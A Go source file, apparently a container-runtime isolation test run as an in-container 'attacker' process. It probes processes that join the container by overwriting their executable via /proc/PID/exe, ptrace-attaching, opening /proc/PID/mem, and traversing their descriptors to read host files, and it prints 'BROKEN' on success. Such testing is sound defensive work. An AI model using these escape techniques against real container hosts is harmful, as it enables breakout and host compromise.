package main

import (
	"fmt"
	"os"
	"runtime"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// others calls f for each process that comes, again and again as long as its name is not the attacker's: that is who
// joins the container from outside. It ends when a file /stop appears.
func others(f func(pid int, dir string)) {
	fmt.Println("ready")
	_ = os.WriteFile("/ready", nil, 0o644)
	for {
		if unix.Access("/stop", unix.F_OK) == nil {
			return
		}
		proc, err := os.Open("/proc")
		if err != nil {
			return
		}
		names, _ := proc.Readdirnames(-1)
		proc.Close()
		for _, name := range names {
			pid, err := strconv.Atoi(name)
			if err == nil && pid != os.Getpid() && foreign("/proc/"+name) {
				f(pid, "/proc/"+name)
			}
		}
	}
}

// foreign tells whether the process is still the runtime.
func foreign(dir string) bool {
	b, err := os.ReadFile(dir + "/comm")
	return err == nil && strings.TrimSpace(string(b)) != "attacker"
}

// overwrite takes hold of the executables of those who join, and writes to them as soon as they can be written to.
func overwrite([]string) error {
	var held []int
	others(func(_ int, dir string) {
		if fd, err := unix.Open(dir+"/exe", unix.O_RDONLY|unix.O_CLOEXEC, 0); err == nil && len(held) < 64 {
			held = append(held, fd)
		}
		writeAll(held)
	})
	for end := time.Now().Add(time.Second); time.Now().Before(end); {
		writeAll(held)
	}
	fmt.Println("held", len(held))
	return nil
}

func writeAll(held []int) {
	for _, fd := range held {
		to, err := unix.Open("/proc/self/fd/"+strconv.Itoa(fd), unix.O_WRONLY|unix.O_CLOEXEC, 0)
		if err != nil {
			continue
		}
		if _, err := unix.Write(to, []byte("overwritten")); err == nil {
			fmt.Println("wrote to the executable of who joined")
		}
		_ = unix.Close(to)
	}
}

// trace FILE attaches to those who join, and goes through their descriptors to a file of the host.
func trace(a []string) error {
	runtime.LockOSThread()
	met := 0
	others(func(pid int, dir string) {
		met++
		throughFiles(dir, a[0])
		if len(a) > 1 { // only by descriptor: who has CAP_SYS_PTRACE on the host may trace
			return
		}
		if unix.PtraceSeize(pid) == nil {
			if foreign(dir) {
				fmt.Println("BROKEN: traced who joined")
			}
			_ = unix.PtraceInterrupt(pid)
			_, _ = unix.Wait4(pid, nil, unix.WALL, nil)
			_ = unix.PtraceDetach(pid)
		}
		if f, err := os.OpenFile(dir+"/mem", os.O_RDWR, 0); err == nil {
			if foreign(dir) {
				fmt.Println("BROKEN: opened the memory of who joined")
			}
			f.Close()
		}
	})
	fmt.Println("met", met)
	return nil
}

// throughFiles tries each descriptor of a process as a way to a file of the host.
func throughFiles(dir, file string) {
	files, err := os.ReadDir(dir + "/fd")
	if err != nil {
		return
	}
	for _, fd := range files {
		for up := "/"; len(up) < 3*12; up += "../" {
			if b, err := os.ReadFile(dir + "/fd/" + fd.Name() + up + strings.TrimPrefix(file, "/")); err == nil {
				fmt.Printf("BROKEN: read %q of the host through a descriptor of who joined\n", b)
				return
			}
		}
	}
}
